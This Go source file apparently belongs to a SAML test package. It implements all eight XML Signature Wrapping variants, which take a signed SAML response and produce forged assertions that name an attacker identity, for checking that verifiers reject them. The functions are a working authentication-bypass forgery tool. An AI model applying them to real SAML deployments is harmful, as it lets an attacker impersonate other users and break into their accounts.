package samltest

import "github.com/beevik/etree"

// Evil is whom forged assertions name.
const Evil = "mallory@acme.example"

// EvilID is the ID of forged elements.
const EvilID = "_evil-1"

// XSW wraps the genuine elements of a signed document in one of the eight ways of Somorovsky et al. (On Breaking SAML, USENIX Security
// 2012), in the numbering that SAML Raider made common. The forged element names Evil.
func XSW(variant int, doc []byte) []byte {
	tree := parse(string(doc))
	root := tree.Root()
	switch variant {
	case 1: // the genuine response inside the signature of the forged one
		genuine, signature := wrapRoot(root)
		signature.AddChild(genuine)
	case 2: // the genuine response beside its signature
		genuine, signature := wrapRoot(root)
		signature.Parent().InsertChildAt(signature.Index(), genuine)
	case 3: // the forged assertion before the genuine one
		assertion := assertionOf(root)
		root.InsertChildAt(assertion.Index(), Forge(assertion))
	case 4: // the genuine assertion inside the forged one
		assertion := assertionOf(root)
		evil := Forge(assertion)
		root.AddChild(evil)
		evil.AddChild(assertion)
	case 5: // the signature stays in the forged one, the genuine one comes last
		assertion, genuine := forgeInPlace(root)
		assertion.Parent().AddChild(genuine)
	case 6: // the genuine assertion inside the signature inside the forged one
		assertion, genuine := forgeInPlace(root)
		holder(assertion).AddChild(genuine)
	case 7: // the forged assertion in Extensions, where any schema is allowed
		assertion := assertionOf(root)
		extensions := etree.NewElement("samlp:Extensions")
		root.InsertChildAt(assertion.Index(), extensions)
		extensions.AddChild(Forge(assertion))
	case 8: // the genuine assertion in ds:Object of the signature inside the forged one
		assertion, genuine := forgeInPlace(root)
		object := etree.NewElement("ds:Object")
		object.CreateAttr("xmlns:ds", namespace)
		holder(assertion).AddChild(object)
		object.AddChild(genuine)
	default:
		panic("there are eight")
	}
	return []byte(write(root))
}

func assertionOf(root *etree.Element) *etree.Element { return root.FindElement("./Assertion") }

func signatureOf(el *etree.Element) *etree.Element { return el.SelectElement("Signature") }

// holder is where the element's signature is, or the element itself where it has none.
func holder(el *etree.Element) *etree.Element {
	if s := signatureOf(el); s != nil {
		return s
	}
	return el
}

// wrapRoot forges the root in place and gives a genuine copy of it without its signature, and the signature that covers something.
func wrapRoot(root *etree.Element) (genuine, signature *etree.Element) {
	genuine = root.Copy()
	signature = signatureOf(root)
	if signature == nil {
		signature = signatureOf(assertionOf(root))
	} else {
		genuine.RemoveChild(signatureOf(genuine))
	}
	root.CreateAttr("ID", EvilID)
	rename(root)
	return genuine, signature
}

// forgeInPlace forges the assertion where it is, signature included, and gives a genuine copy without the signature.
func forgeInPlace(root *etree.Element) (forged, genuine *etree.Element) {
	forged = assertionOf(root)
	genuine = forged.Copy()
	if s := signatureOf(genuine); s != nil {
		genuine.RemoveChild(s)
	}
	forged.CreateAttr("ID", EvilID)
	rename(forged)
	return forged, genuine
}

// Forge copies an assertion, without its signature, under another ID and about Evil.
func Forge(assertion *etree.Element) *etree.Element {
	evil := assertion.Copy()
	if s := signatureOf(evil); s != nil {
		evil.RemoveChild(s)
	}
	evil.CreateAttr("ID", EvilID)
	rename(evil)
	return evil
}

// ForgedAssertion is the text of a forged copy of the document's assertion.
func ForgedAssertion(doc []byte) string { return write(Forge(assertionOf(parse(string(doc)).Root()))) }

func rename(el *etree.Element) {
	for _, id := range el.FindElements(".//NameID") {
		id.SetText(Evil)
	}
}
